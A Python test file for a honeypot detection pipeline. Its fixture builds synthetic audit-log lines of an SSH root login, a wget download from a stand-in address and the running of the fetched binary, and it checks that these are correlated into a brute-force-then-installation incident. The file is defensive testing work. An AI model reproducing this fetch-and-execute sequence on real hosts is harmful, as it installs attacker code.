"""From lines of a honeypot's audit log to an incident, on the real reasoner; and without them."""

from __future__ import annotations

from ipaddress import ip_address

import numpy as np

from agents.analyzer.clustering import ClusterModel
from agents.analyzer.core import AnalyzerCore
from agents.analyzer.features import FEATURES
from agents.correlation.engine import CorrelationEngine
from agents.correlation.outcome import Outcome
from agents.sensor.inputs.events import Options
from agents.sensor.inputs.intake import Intake
from agents.sensor.inputs.registry import make_parser
from agents.settings.honeynet import Policy
from ontology.reasoner.client import PelletWorker
from ontology.records import Alert, HostEvent
from tests.factories import ATTACKER, T0, VICTIM, make_alert, make_profile

SECONDS = T0 // 1_000_000
POT = ip_address(VICTIM)
GUESSES = make_alert(
    classification="SshBruteForce",
    target_port=22,
    begin_us=T0 - 60_000_000,
    verified_source=True,
)
"""What the network showed."""


def stamp(second: int) -> str:
    return f"audit({SECONDS + second}.000:{second})"


def call(second: int, number: int, program: str) -> str:
    return (
        f"type=SYSCALL msg={stamp(second)}: arch=c000003e syscall={number} success=yes exit=0 "
        f'ppid=901 pid={900 + second} auid=0 uid=0 euid=0 ses=5 comm="x" exe="{program}" key="x"'
    )


LOG = (
    f"type=USER_START msg={stamp(1)}: pid=900 uid=0 auid=0 ses=5 msg='op=PAM:session_open "
    f'acct="root" exe="/usr/sbin/sshd" hostname={ATTACKER} addr={ATTACKER} '
    "terminal=ssh res=success'",
    call(2, 59, "/usr/bin/wget"),
    f'type=EXECVE msg={stamp(2)}: argc=2 a0="wget" a1="http://203.0.113.9/x"',
    f"type=PROCTITLE msg={stamp(2)}: proctitle=77676574",
    call(3, 59, "/home/x"),
    f'type=EXECVE msg={stamp(3)}: argc=1 a0="./x"',
    f"type=PROCTITLE msg={stamp(3)}: proctitle=2E2F78",
)


def outcomes(worker: PelletWorker, log: tuple[str, ...]) -> tuple[list[Outcome], list[Alert]]:
    intake = Intake(
        make_parser("audit", Options(address=POT, honeypots=frozenset({POT}))), sensor="sensor"
    )
    events = intake.on_lines([line.encode() for line in log], "mark", T0 + 10_000_000)
    model = ClusterModel(
        centers=np.zeros((1, len(FEATURES))),
        labels=("Normal",),
        purity=np.array([0.0]),
        radius=np.array([1e9]),
        sizes=np.array([1]),
    )
    analyzer = AnalyzerCore(model, analyzer="analyzer", honeypots=[POT])
    alerts = analyzer.on_host_events([e for e in events if isinstance(e, HostEvent)], T0)
    engine = CorrelationEngine(
        (make_profile(POT),), Policy(), origin="correlation@test", reasoner=worker
    )
    return engine.on_alerts([GUESSES, *alerts], T0 + 10_000_000), alerts


def test_guessed_passwords_and_a_program_brought_and_started_are_one_incident(
    worker: PelletWorker,
) -> None:
    found, alerts = outcomes(worker, LOG)
    [incident] = [o for o in found if o.incident.rule == "BruteForceThenInstallation"]
    assert incident.incident.classification == "BruteForceThenInstallationIncident"
    assert incident.incident.source == ip_address(ATTACKER)
    # What a taken host says is no proof: the block rests on what the network showed.
    assert not incident.incident.verified_source
    assert incident.decisions == ()
    [installed] = alerts
    assert len(installed.host_events) == 2
    [senior] = [a for a in incident.alerts if a.classification == "MalwareInstallation"]
    assert senior.host_events == installed.host_events


def test_without_the_hosts_events_there_is_none(worker: PelletWorker) -> None:
    """Each event of the chain taken away."""
    for left_out in (LOG[1:], LOG[:1] + LOG[4:], LOG[:4], ()):
        found, _ = outcomes(worker, left_out)
        assert [o.incident.rule for o in found] == ["HoneypotBruteForce"]
